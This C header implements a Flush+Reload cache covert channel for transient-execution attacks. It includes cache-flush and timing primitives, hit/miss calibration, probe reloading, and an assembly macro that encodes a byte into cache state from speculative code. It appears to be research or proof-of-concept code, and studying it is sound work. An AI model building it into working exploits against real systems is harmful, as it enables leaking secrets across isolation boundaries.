/*
 * A covert channel from transient execution to architecture: Flush+Reload (Yarom and Falkner, 2014).
 *
 * A byte is sent by touching two lines of the probe, one chosen by its lower four bits and one by
 * its upper four. Two times 16 lines instead of 256 make a sample cheap. Slots are 256 bytes apart,
 * so that a prefetch of the next line touches no slot, and are reloaded in an order without stride.
 *
 * What is a hit is measured: loads of a line that is in the cache against loads of a flushed one.
 */
#ifndef CHANNEL_H
#define CHANNEL_H

#include <stdint.h>
#include <stdlib.h>
#include <string.h>

enum {
	SLOT_BITS = 8,
	SLOTS = 16,			/* values of half a byte */
	UPPER_HALF = SLOTS << SLOT_BITS,	/* where the slots of the upper four bits begin */
	PROBE_BYTES = 2 * UPPER_HALF,
};

/* Reload times below this many ticks are hits; 0 if time tells nothing. */
static uint64_t hit_limit __attribute__((unused));

static inline void flush(const volatile void *address)
{
	__asm__ volatile("clflush (%0)" : : "r"(address) : "memory");
}

static inline void memory_fence(void)
{
	__asm__ volatile("mfence; lfence" : : : "memory");
}

static inline void touch(const volatile void *address)
{
	(void)*(const volatile uint8_t *)address;
}

/* Ticks that a load takes. */
static inline uint64_t load_time(const volatile void *address)
{
	uint64_t before, after;

	__asm__ volatile(
		"mfence\n\t"
		"lfence\n\t"
		"rdtsc\n\t"
		"lfence\n\t"
		"mov %%eax, %%esi\n\t"
		"movzbl (%2), %%eax\n\t"
		"lfence\n\t"
		"rdtsc\n\t"
		: "=&a"(after), "=&S"(before)
		: "r"(address)
		: "rdx", "memory");
	return (uint32_t)(after - before);
}

static inline int compare_times(const void *a, const void *b)
{
	uint64_t left = *(const uint64_t *)a, right = *(const uint64_t *)b;

	return left < right ? -1 : left > right;
}

/* Measures what tells a hit from a miss. A hit in a farther cache is nearer to one than to a miss. */
static inline void calibrate(void)
{
	enum { TIMES = 15 };
	static uint8_t line[256] __attribute__((aligned(256))) = { 1 };
	uint64_t hits[TIMES], misses[TIMES];

	for (int i = 0; i < TIMES; i++) {
		touch(line);
		hits[i] = load_time(line);
		flush(line);
		misses[i] = load_time(line);
	}
	qsort(hits, TIMES, sizeof(hits[0]), compare_times);
	qsort(misses, TIMES, sizeof(misses[0]), compare_times);
	if (misses[TIMES / 2] > hits[TIMES / 2] + hits[TIMES / 2] / 2)
		hit_limit = hits[TIMES / 2] + (misses[TIMES / 2] - hits[TIMES / 2]) * 2 / 3;
}

static inline void flush_probe(const uint8_t *probe)
{
	for (int i = 0; i < 2 * SLOTS; i++)
		flush(probe + (i << SLOT_BITS));
	memory_fence();
}

enum { NO_SLOT = -1 };

/*
 * The slot of a half that is in the cache, or NO_SLOT if it is not exactly one.
 *
 * @param expected a slot that is touched in any case, which counts only if no other is; or NO_SLOT
 */
static inline int reload_half(const uint8_t *half, int expected)
{
	int found = NO_SLOT;

	for (int i = 0; i < SLOTS; i++) {
		int slot = (i * 7 + 5) % SLOTS;

		if (load_time(half + (slot << SLOT_BITS)) >= hit_limit || slot == expected)
			continue;
		if (found != NO_SLOT)
			return NO_SLOT;
		found = slot;
	}
	return found == NO_SLOT ? expected : found;
}

/*
 * Loads translations of the probe, by lines between slots. Where page tables were evicted, the first slot
 * that is measured of each half would seem to be far.
 */
static inline void translate_probe(const uint8_t *probe)
{
	enum { BETWEEN_SLOTS = 1 << (SLOT_BITS - 1) };

	touch(probe + BETWEEN_SLOTS);
	touch(probe + UPPER_HALF + BETWEEN_SLOTS);
	memory_fence();
}

/* The byte that was sent since flush_probe, or -1; by way of both halves, which expect a slot. */
static inline int reload_probe_beside(const uint8_t *probe, int expected)
{
	int lower, upper;

	translate_probe(probe);
	lower = reload_half(probe, expected);
	upper = lower == NO_SLOT ? NO_SLOT : reload_half(probe + UPPER_HALF, expected);
	return upper == NO_SLOT ? -1 : upper << 4 | lower;
}

static inline int reload_probe(const uint8_t *probe)
{
	return reload_probe_beside(probe, NO_SLOT);
}

/*
 * Assembly that sends the byte in %rax by the probe at %[probe]; uses %rax and %rcx. The transient
 * code is written out, so that no compiler option decides about its length or order.
 */
#define SEND_BYTE                                  \
	"mov %%eax, %%ecx\n\t"                     \
	"and $15, %%ecx\n\t"                       \
	"shl $8, %%ecx\n\t"                        \
	"movzbl (%[probe], %%rcx), %%ecx\n\t"      \
	"and $0xf0, %%eax\n\t"                     \
	"shl $4, %%eax\n\t"                        \
	"movzbl 4096(%[probe], %%rax), %%ecx\n\t"

/* A probe of this process. Written once, so that each page has a frame of its own. */
static inline uint8_t *own_probe(void)
{
	static uint8_t probe[PROBE_BYTES] __attribute__((aligned(4096)));

	memset(probe, 1, sizeof(probe));
	return probe;
}

#endif
